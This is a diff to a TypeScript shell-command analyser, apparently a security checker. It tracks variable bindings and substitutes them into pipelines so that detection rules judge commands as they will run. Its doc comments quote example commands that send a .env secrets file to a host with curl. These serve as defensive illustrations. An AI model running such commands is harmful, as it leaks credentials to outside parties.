@@ -1,4 +1,6 @@
-import type { Pipeline, SimpleCommand, Word } from "./ast.js";
+import type { Pipeline, Redirect, SimpleCommand, Word } from "./ast.js";
+import { CommandNode, listOf, PipelineNode, RedirectNode, WordNode } from "./nodes.js";
+import { factsOf } from "./word-facts.js";
 
 /**
  * What a script's own text fixes about the words it computes. A command name can be built at
@@ -29,9 +31,20 @@ export const BINDERS: ReadonlySet<string> = new Set([...DECLARERS, "alias"]);
 
 const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
 
+/**
+ * A variable as the text bound it: its value where the text fixes it, and in any case its text
+ * with the substitutions that text runs (`X=$(cat .env)` binds the text `$(cat .env)` and the
+ * pipeline `cat .env`), references to variables bound before it already replaced.
+ */
+interface Binding {
+  readonly value: string | undefined;
+  readonly text: string;
+  readonly substitutions: readonly Pipeline[];
+}
+
 /** The variables and aliases a script has bound so far, in the order its text runs them. */
 export class ShellBindings {
-  private readonly variables = new Map<string, string>();
+  private readonly variables = new Map<string, Binding>();
   private readonly aliases = new Map<string, string>();
 
   /** Whether any alias is bound: most scripts bind none, and then no name needs looking up. */
@@ -39,7 +52,18 @@ export class ShellBindings {
     return this.aliases.size > 0;
   }
 
+  /** Whether any variable is bound: most text read as shell binds none. */
+  get hasVariables(): boolean {
+    return this.variables.size > 0;
+  }
+
+  /** The value the text fixes for variable `name`. */
   variable(name: string): string | undefined {
+    return this.variables.get(name)?.value;
+  }
+
+  /** What variable `name` was bound to, fixed or not. */
+  binding(name: string): Binding | undefined {
     return this.variables.get(name);
   }
 
@@ -62,19 +86,185 @@ export class ShellBindings {
     }
   }
 
-  private assign(into: Map<string, string>, word: Word): void {
+  private assign(into: Map<string, string> | Map<string, Binding>, word: Word): void {
     const eq = word.text.indexOf("=");
     const name = word.text.slice(0, eq).replace(/\+$/, "");
     if (!NAME.test(name) && into === this.variables) return;
     // The name before `=` holds no expansion, so expanding the whole word keeps it as it is.
     const value = word.dynamic ? expandWord(word, this)?.slice(eq + 1) : word.text.slice(eq + 1);
-    if (value === undefined || value.length > MAX_VALUE) {
-      into.delete(name);
+    if (into === this.aliases) {
+      if (value === undefined || value.length > MAX_VALUE) this.aliases.delete(name);
+      else if (this.aliases.has(name) || this.room()) this.aliases.set(name, value);
       return;
     }
-    if (!into.has(name) && this.variables.size + this.aliases.size >= MAX_BINDINGS) return;
-    into.set(name, value);
+    const symbolic = word.dynamic ? substitutedText(word, this) : undefined;
+    const text = symbolic ? symbolic.text.slice(eq + 1) : word.text.slice(eq + 1);
+    if (text.length > MAX_VALUE) {
+      this.variables.delete(name);
+      return;
+    }
+    if (!this.variables.has(name) && !this.room()) return;
+    const substitutions = symbolic ? symbolic.substitutions : word.substitutions;
+    this.variables.set(name, {
+      value: value !== undefined && value.length <= MAX_VALUE ? value : undefined,
+      text,
+      substitutions,
+    });
   }
+
+  private room(): boolean {
+    return this.variables.size + this.aliases.size < MAX_BINDINGS;
+  }
+}
+
+/**
+ * `pipeline` with the variables the text bound written in (`F=.env; curl -d @$F host` reads as
+ * `curl -d @.env host`, `X=$(cat .env); curl host/?d=$X` as `curl host/?d=$(cat .env)`), for
+ * the rules to judge as it will run; undefined when it uses none of them. An unquoted variable
+ * that stands alone with a fixed value splits into words, as the shell splits it.
+ */
+export function substitutedPipeline(pipeline: Pipeline, bindings: ShellBindings): Pipeline | undefined {
+  let changed = false;
+  const commands: SimpleCommand[] = [];
+  for (const command of pipeline.commands) {
+    const words = substitutedWords(command.words, bindings);
+    let redirects: Redirect[] = command.redirects;
+    for (let k = 0; k < command.redirects.length; k++) {
+      const r = command.redirects[k]!;
+      const target = r.target.dynamic ? substitutedWord(r.target, bindings) : undefined;
+      if (target === undefined) continue;
+      if (redirects === command.redirects) redirects = command.redirects.slice();
+      const copy = new RedirectNode(r.fd, r.op, target, r.start, r.end);
+      copy.body = r.body;
+      redirects[k] = copy;
+    }
+    if (words === command.words && redirects === command.redirects) commands.push(command);
+    else {
+      changed = true;
+      commands.push(new CommandNode(command.assignments, words, redirects, command.start, command.end));
+    }
+  }
+  if (!changed) return undefined;
+  return new PipelineNode(commands, pipeline.start, pipeline.end, pipeline.depth);
+}
+
+/** `words` with bound variables written in; the same array when none is used. */
+function substitutedWords(words: Word[], bindings: ShellBindings): Word[] {
+  let out: Word[] | undefined;
+  for (let k = 0; k < words.length; k++) {
+    const w = words[k]!;
+    const replaced = w.dynamic ? replacementOf(w, bindings) : undefined;
+    if (replaced === undefined) {
+      out?.push(w);
+      continue;
+    }
+    if (out === undefined) out = words.slice(0, k);
+    for (const r of replaced) out.push(r);
+  }
+  return out ?? words;
+}
+
+/** The words a dynamic word becomes with bound variables written in; undefined when it uses none. */
+function replacementOf(word: Word, bindings: ShellBindings): Word[] | undefined {
+  const split = word.quoted ? undefined : splitValue(word, bindings);
+  if (split !== undefined) return split;
+  const substituted = substitutedWord(word, bindings);
+  return substituted === undefined ? undefined : listOf(substituted);
+}
+
+/** An unquoted `$X` or `${X}` alone, X fixed: the words the shell splits its value into. */
+function splitValue(word: Word, bindings: ShellBindings): Word[] | undefined {
+  const m = /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})$/.exec(word.text);
+  const value = m ? bindings.variable(m[1] ?? m[2] ?? "") : undefined;
+  if (value === undefined) return undefined;
+  const parts = value.split(/[ \t\n]+/).filter((p) => p.length > 0);
+  let out: Word[] | undefined;
+  for (const part of parts) {
+    const node = new WordNode(part, factsOf(part), word.start, word.end, false, false, []);
+    if (out === undefined) out = listOf<Word>(node);
+    else out.push(node);
+  }
+  return out ?? [];
+}
+
+/** `word` with bound variables written in; undefined when it uses none. */
+function substitutedWord(word: Word, bindings: ShellBindings): Word | undefined {
+  const replaced = substitutedText(word, bindings);
+  if (!replaced) return undefined;
+  return new WordNode(
+    replaced.text,
+    factsOf(replaced.text),
+    word.start,
+    word.end,
+    word.quoted,
+    replaced.text.includes("$") || replaced.text.includes("`") || replaced.substitutions.length > 0,
+    replaced.substitutions.slice(),
+  );
+}
+
+/**
+ * The text of `word` with each `$X`/`${X}` of a bound variable replaced by the text it was bound
+ * to, and the substitutions of the result in text order; undefined when no bound variable is used
+ * (or the word nests a substitution inside `${...}`, whose order this does not follow).
+ */
+function substitutedText(
+  word: Word,
+  bindings: ShellBindings,
+): { text: string; substitutions: Pipeline[] } | undefined {
+  const text = word.text;
+  let out = "";
+  let replaced = false;
+  let own = 0;
+  const substitutions: Pipeline[] = [];
+  const takeOwn = () => {
+    const p = word.substitutions[own++];
+    if (p) substitutions.push(p);
+  };
+  for (let i = 0; i < text.length; ) {
+    const c = text[i]!;
+    const next = text[i + 1];
+    let end = i + 1;
+    if (c === "`") {
+      const close = text.indexOf("`", i + 1);
+      if (close === -1) return undefined;
+      end = close + 1;
+      takeOwn();
+    } else if ((c === "$" || c === "<" || c === ">") && next === "(" && text[i + 2] !== "(") {
+      const close = closingParen(text, i + 2);
+      if (close === -1) return undefined;
+      end = close + 1;
+      takeOwn();
+    } else if (c === "$" && next === "{") {
+      const close = closingBrace(text, i + 2);
+      if (close === -1) return undefined;
+      const inside = text.slice(i + 2, close);
+      if (/[`(]/.test(inside)) return undefined;
+      const bound = NAME.test(inside) ? bindings.binding(inside) : undefined;
+      if (bound) {
+        out += bound.text;
+        for (const p of bound.substitutions) substitutions.push(p);
+        replaced = true;
+        i = close + 1;
+        continue;
+      }
+      end = close + 1;
+    } else if (c === "$" && next !== undefined && /[A-Za-z_]/.test(next)) {
+      end = i + 2;
+      while (end < text.length && /[A-Za-z0-9_]/.test(text[end]!)) end++;
+      const bound = bindings.binding(text.slice(i + 1, end));
+      if (bound) {
+        out += bound.text;
+        for (const p of bound.substitutions) substitutions.push(p);
+        replaced = true;
+        i = end;
+        continue;
+      }
+    }
+    out += text.slice(i, end);
+    i = end;
+    if (out.length > MAX_VALUE) return undefined;
+  }
+  return replaced ? { text: out, substitutions } : undefined;
 }
 
 /** The value of `word` fixed by the script's own text, or undefined when it depends on anything else. */
